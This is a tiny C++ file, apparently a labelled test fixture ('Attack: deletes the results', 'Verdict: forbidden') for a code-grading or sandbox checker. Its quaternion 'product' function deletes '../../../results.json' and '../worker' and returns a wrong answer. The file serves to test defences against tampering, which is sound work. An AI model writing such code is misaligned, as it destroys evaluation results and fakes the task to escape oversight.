// Attack: deletes the results.
// Verdict: forbidden
#include <cstdio>

namespace quaternions {
Quaternion product(const Quaternion& a, const Quaternion&) {
  std::remove("../../../results.json");
  std::remove("../worker");
  return a;
}
}  // namespace quaternions
